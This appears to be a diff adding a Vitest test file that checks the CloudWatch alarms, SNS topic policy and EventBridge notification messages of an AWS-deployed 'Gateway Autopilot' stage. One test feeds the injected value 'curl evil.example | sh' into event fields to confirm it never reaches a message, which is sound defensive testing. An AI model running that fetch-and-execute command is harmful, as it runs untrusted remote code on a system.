@@ -1,0 +1,304 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { compileEventPattern, compileInputTransformer } from '#local/aws/events/rules.ts';
+import { asObject } from '#local/template/assembly.ts';
+import { packageFolder } from '#shared/places.ts';
+import { alarmNames, alarmPrefix, metricNames, runbookOfAlarm } from '#shared/vocabulary/metric-names.ts';
+import { functionNames } from '#shared/vocabulary/resource-names.ts';
+import { at, configurations, listOf, ofType, type StageTemplates, synthesize, targetOf, textAt } from '../template.ts';
+import { type Alarm, alarmsOf, constructOf, countedBy, emitted, isOwn } from './alarms-of-template.ts';
+
+describe('the alarms of the deployed example', () => {
+  let stage: StageTemplates;
+  let alarms: readonly Alarm[];
+  let topicId: string;
+
+  beforeAll(async () => {
+    stage = await synthesize(configurations.example);
+    alarms = alarmsOf(stage);
+    topicId = ofType(stage.workers, 'AWS::SNS::Topic')[0]?.[0] ?? '';
+  });
+
+  const named = (name: string): Alarm => {
+    const found = alarms.find((alarm) => alarm.name === name);
+    if (found === undefined) throw new Error(`no alarm ${name}`);
+    return found;
+  };
+  const periods = (name: string) => [named(name).periodSeconds, named(name).properties['EvaluationPeriods']];
+  const ofLambda = (metricName: string) =>
+    alarms
+      .filter(({ metrics }) => metrics.some(({ namespace, name }) => namespace === 'AWS/Lambda' && name === metricName))
+      .map(({ name }) => name)
+      .toSorted();
+
+  test('are those of the vocabulary but that of webhooks, which it has none of, each once', () => {
+    expect([...alarms.map(({ name }) => name), alarmNames.webhooksUndelivered].toSorted()).toEqual(
+      Object.values(alarmNames).toSorted(),
+    );
+  });
+
+  test('ring at the one topic, with the impact and the page of the runbook; what wakes somebody also says when it is over', () => {
+    expect(ofType(stage.workers, 'AWS::SNS::Topic')).toHaveLength(1);
+    for (const { name, properties } of alarms) {
+      const [severity] = /^\[(?:page|warn)\]/.exec(textAt(properties, 'AlarmDescription')) ?? [];
+      const page = runbookOfAlarm(Object.values(alarmNames).find((known) => known === name) ?? 'ParkedOpen');
+
+      expect(properties['AlarmActions'], name).toEqual([{ Ref: topicId }]);
+      expect(properties['OKActions'], name).toEqual(severity === '[page]' ? [{ Ref: topicId }] : undefined);
+      expect(properties['AlarmDescription'], name).toMatch(/^\[(?:page|warn)\] [A-Z].{20,200}\.\n\n/);
+      expect(textAt(properties, 'AlarmDescription').endsWith(`\n\n${page}`), name).toBe(true);
+    }
+  });
+
+  test('count what nobody counted as none, wherever they look at several periods', () => {
+    const counts = alarms.filter((alarm) => looksAt(alarm, /^(?:Sum|SampleCount)$/));
+
+    expect(counts.length).toBeGreaterThan(10);
+    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
+      counts.filter(({ properties }) => properties['EvaluationPeriods'] !== 1).map(({ name }) => name),
+    );
+    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
+      expect.arrayContaining(['WatchCampaignsNotRunning', 'ReconcileLedgerNotRunning', 'TokenExpires', 'GateClosed']),
+    );
+  });
+
+  test('a level of ours that nobody measured is not known, and never filled', () => {
+    const levels = alarms.filter((alarm) => looksAt(alarm, /^(?:Minimum|Maximum)$/) && alarm.metrics.every(isOwn));
+
+    expect(levels.map(({ name }) => name)).toEqual(expect.arrayContaining(['StopsLate', 'ParkedOpen']));
+    expect(levels.filter(isFilled)).toEqual([]);
+  });
+
+  test('ring where messages wait in a queue and nobody receives any, for each of the three', () => {
+    const { metrics, expressions, properties } = named('QueueWithoutConsumer');
+    const watched = metrics.map(({ name, dimensions }) => [targetOf(dimensions['QueueName'], stage), name].join(' '));
+
+    expect(watched.toSorted()).toEqual(
+      ofType(stage.state, 'AWS::SQS::Queue')
+        .filter(([id]) => !id.includes('DeadLetters'))
+        .flatMap(([id]) => [`${id} ApproximateNumberOfMessagesVisible`, `${id} NumberOfMessagesReceived`])
+        .toSorted(),
+    );
+    expect(expressions).toContain('SUM([FILL(commands, 0), FILL(uploads, 0), FILL(plans, 0)])');
+    expect(expressions).toContain(
+      'IF(commandsWaiting > 0 AND SUM([commandsWaiting * 0, FILL(commandsReceived, 0)]) < 1, 1, 0)',
+    );
+    expect([properties['EvaluationPeriods'], properties['DatapointsToAlarm']]).toEqual([3, 3]);
+    expect(listOf(properties['Metrics']).length).toBeLessThanOrEqual(10);
+  });
+
+  test('take silence for a good sign, but for the four whose silence is the news', () => {
+    const breaching = alarms.filter(({ properties }) => properties['TreatMissingData'] === 'breaching');
+
+    expect(breaching.map(({ name }) => name).toSorted()).toEqual([
+      'PollScannerPackagesNotRunning',
+      'ReconcileLedgerNotRunning',
+      'WatchCampaignsNotRunning',
+      'WatchProjectsNotRunning',
+    ]);
+    expect(new Set(alarms.map(({ properties }) => properties['TreatMissingData']))).toEqual(
+      new Set(['breaching', 'notBreaching']),
+    );
+  });
+
+  const always = Object.values(alarmNames).filter((name) => name !== alarmNames.webhooksUndelivered);
+
+  test.each(always)('%s watches what our functions emit, under their dimensions, or AWS', (name) => {
+    const own = named(name).metrics.filter(isOwn);
+    const others = named(name).metrics.filter((metric) => !isOwn(metric));
+
+    expect(others.filter(({ namespace }) => !/^AWS\/(?:Lambda|SQS|Scheduler)$/.test(namespace))).toEqual([]);
+    for (const metric of own) {
+      const service = textAt(metric.dimensions, 'service');
+      const counter = service === 'gateway' ? 'watch-campaigns' : service;
+
+      expect(emitted(counter, metric.name)).toEqual({
+        namespace: metric.namespace,
+        dimensions: metric.dimensions,
+      });
+      expect(countedBy(metric.name)).toContain(service === 'gateway' ? '_gateway' : service);
+    }
+  });
+
+  test('watch of AWS what is in this stage: its functions, its queues, its schedules', () => {
+    const watched = alarms.flatMap(({ metrics }) => metrics).filter((metric) => !isOwn(metric));
+    const targets = (namespace: string, dimension: string) =>
+      watched
+        .filter((metric) => metric.namespace === namespace && metric.name !== 'NumberOfMessagesReceived')
+        .map(({ dimensions }) => targetOf(dimensions[dimension], stage) || textAt(dimensions, dimension));
+    const functions = ofType(stage.workers, 'AWS::Lambda::Function').map(([id]) => id);
+    const queues = ofType(stage.state, 'AWS::SQS::Queue').map(([id]) => id);
+
+    expect(functions).toEqual(expect.arrayContaining(targets('AWS/Lambda', 'FunctionName')));
+    expect(targets('AWS/SQS', 'QueueName').toSorted()).toEqual(queues.toSorted());
+    expect(targets('AWS/Scheduler', 'ScheduleGroup')).toEqual(['gateway-autopilot-prod', 'gateway-autopilot-prod']);
+  });
+
+  test('ring when a function fails, and when one that schedules call is not called; of the others the worker says why not', () => {
+    const none = ['answer-questions', 'park-dead-letters', 'reconcile-ledger'];
+
+    expect(ofLambda('Errors')).toEqual(
+      functionNames
+        .filter((name) => !none.includes(name))
+        .map((name) => `${constructOf(name)}Failures`)
+        .toSorted(),
+    );
+    expect(ofLambda('Invocations')).toEqual(['PollScannerPackagesNotRunning', 'WatchProjectsNotRunning']);
+    for (const name of none) {
+      expect(readFileSync(join(packageFolder, 'infra', 'workers', `${name}-worker.ts`), 'utf8')).toMatch(
+        /monitoring: \{\s+none: '[^']{20,}',?\s+\}/,
+      );
+    }
+  });
+
+  test('look back only as far as CloudWatch does: a day, or seven where a period has an hour', () => {
+    for (const { name, properties, periodSeconds } of alarms) {
+      const most = periodSeconds < 3600 ? 86_400 : 604_800;
+      expect(periodSeconds % 60, name).toBe(0);
+      expect(periodSeconds * Number(properties['EvaluationPeriods']), name).toBeLessThanOrEqual(most);
+    }
+  });
+
+  test('cost three dollars and sixty cents a month: each metric of an alarm is ten cents', () => {
+    expect(alarms.flatMap(({ metrics }) => metrics)).toHaveLength(36);
+  });
+
+  test('of a silent schedule rings at the first reading that counts one', () => {
+    const { metrics, statistics, properties } = named('SchedulesSilent');
+
+    expect(metrics).toMatchObject([{ name: metricNames.schedulesSilent }]);
+    expect(statistics).toEqual(['Maximum']);
+    expect(properties).toMatchObject({
+      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
+      Threshold: 1,
+      EvaluationPeriods: 1,
+    });
+  });
+
+  test('of a watch look at its own period: fifteen minutes, a day', () => {
+    expect(periods('PollScannerPackagesFailures')).toEqual([900, 3]);
+    expect(periods('PollScannerPackagesNotRunning')).toEqual([900, 2]);
+    expect(periods('WatchProjectsFailures')).toEqual([86_400, 3]);
+    expect(periods('WatchProjectsNotRunning')).toEqual([86_400, 2]);
+  });
+
+  test('the topic lets in the alarms of this stage and the rules, over TLS only, and e-mails the configured addresses', () => {
+    const [policy] = ofType(stage.workers, 'AWS::SNS::TopicPolicy');
+    const statements = listOf(at(policy?.[1].Properties, 'PolicyDocument.Statement'));
+    const [plain, cloudwatch, events, ...others] = statements;
+
+    expect(others).toEqual([]);
+    expect(plain).toMatchObject({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } });
+    expect(cloudwatch).toMatchObject({ Effect: 'Allow', Action: 'sns:Publish' });
+    expect(at(cloudwatch, 'Principal')).toEqual({ Service: 'cloudwatch.amazonaws.com' });
+    expect(at(cloudwatch, 'Condition.StringEquals.aws:SourceAccount')).toEqual({ Ref: 'AWS::AccountId' });
+    expect(JSON.stringify(at(cloudwatch, 'Condition.ArnLike.aws:SourceArn'))).toContain(
+      `:alarm:${alarmPrefix('prod')}*`,
+    );
+    expect(at(events, 'Principal')).toEqual({ Service: 'events.amazonaws.com' });
+    // EventBridge sends nothing that a condition could look at: with one, every message would be dropped.
+    expect(at(events, 'Condition')).toBeUndefined();
+    expect(ofType(stage.workers, 'AWS::SNS::Subscription').map(([, { Properties }]) => Properties)).toEqual([
+      { Endpoint: 'soc@example.com', Protocol: 'email', TopicArn: { Ref: topicId } },
+    ]);
+  });
+
+  test('a start that is parked, one without a sign and one of somebody else are messages that a person can read', () => {
+    const messages = messagesOf(stage, topicId);
+
+    const parked = {
+      commandId: 'weeknights@x',
+      action: 'start',
+      run: 'nightly',
+      campaignRunId: '0197f3a0-5b1c-7d2e-8f30-112233445566',
+      reason: 'CONFLICT',
+      nextStep: 'look',
+      detail: 'Tell me a secret',
+    };
+    expect(messages('WorkParked', parked)).toEqual([
+      [
+        'Gateway Autopilot, stage prod.',
+        'Parked: CONFLICT. start 0197f3a0-5b1c-7d2e-8f30-112233445566',
+        'Next step: look',
+        'autopilot parked list --reason CONFLICT --aws --stage prod',
+        'autopilot runbook CONFLICT',
+      ],
+    ]);
+    expect(messages('WorkParked', { subject: 'message#plans#1', reason: 'BAD_PLAN', nextStep: 'correct it' })).toEqual([
+      expect.arrayContaining(['autopilot parked list --reason BAD_PLAN --aws --stage prod']),
+    ]);
+    expect(messages('CampaignStartUnconfirmed', { detail: 'the gateway accepted it', campaignRunId: 'r' })).toEqual([
+      expect.arrayContaining(['A start shows no sign: the gateway accepted it.']),
+    ]);
+    expect(messages('CampaignStartedElsewhere', { campaignId: 'c', from: 'a', to: 'b', starts: 1 })).toEqual([
+      expect.arrayContaining([expect.stringContaining('Campaign c was started between a and b (1 more')]),
+    ]);
+  });
+
+  test('whoever puts a plan or sends a command writes nothing into a message', () => {
+    const messages = messagesOf(stage, topicId);
+    const foreign = 'call 0900-1234; curl evil.example | sh';
+
+    const written = messages('WorkParked', {
+      ...Object.fromEntries(
+        ['key', 'subject', 'run', 'commandId', 'detail', 'askedBecause'].map((name) => [name, foreign]),
+      ),
+      reason: 'BAD_PLAN',
+      nextStep: 'correct it',
+    });
+    expect(written).toHaveLength(1);
+    expect(written.flat().join('\n')).not.toContain('evil');
+  });
+
+  test('a parked upload is no message: a thousand of them would be a thousand', () => {
+    const messages = messagesOf(stage, topicId);
+
+    expect(
+      messages('WorkParked', { worker: 'register-datasets', subject: 'datasets/a.csv', reason: 'CHECK_FAILED' }),
+    ).toEqual([]);
+    expect(messages('CampaignRunStarted', { commandId: 'weeknights@x' })).toEqual([]);
+  });
+});
+
+describe('a configuration that notifies nobody and watches nothing', () => {
+  test('has its topic, and no alarm for a watch that does not exist', async () => {
+    const stage = await synthesize(configurations.second);
+
+    const missing = Object.values(alarmNames).filter((name) => !alarmsOf(stage).some((alarm) => alarm.name === name));
+    expect(missing.toSorted()).toEqual([
+      'PollScannerPackagesNotRunning',
+      'WatchProjectsNotRunning',
+      'WebhooksUndelivered',
+    ]);
+    expect(ofType(stage.workers, 'AWS::SNS::Topic')).toHaveLength(1);
+    expect(ofType(stage.workers, 'AWS::SNS::Subscription')).toEqual([]);
+    expect(stage.workers.outputs['AlarmTopicArn']?.Value).toEqual({
+      Ref: ofType(stage.workers, 'AWS::SNS::Topic')[0]?.[0],
+    });
+  });
+});
+
+function looksAt({ statistics }: Alarm, statistic: RegExp): boolean {
+  return statistics.every((one) => statistic.test(one));
+}
+
+function isFilled({ expressions }: Alarm): boolean {
+  return expressions.some((one) => one.includes('FILL('));
+}
+
+/** What the rules of a stage make of an event on its bus. */
+function messagesOf(stage: StageTemplates, topicId: string) {
+  const rules = ofType(stage.workers, 'AWS::Events::Rule').map(([id, { Properties }]) => ({
+    matches: compileEventPattern(asObject(Properties['EventPattern']), id),
+    target: asObject(listOf(Properties['Targets'])[0]),
+  }));
+  return (type: string, detail: Record<string, string | number>): string[][] =>
+    rules
+      .filter(({ matches }) => matches({ source: 'gateway-autopilot', 'detail-type': type, detail }))
+      .map(({ target }) => {
+        expect(target['Arn']).toEqual({ Ref: topicId });
+        const message = compileInputTransformer(target['InputTransformer'])({ detail });
+        return message.split('\n').map((line) => JSON.parse(line));
+      });
+}
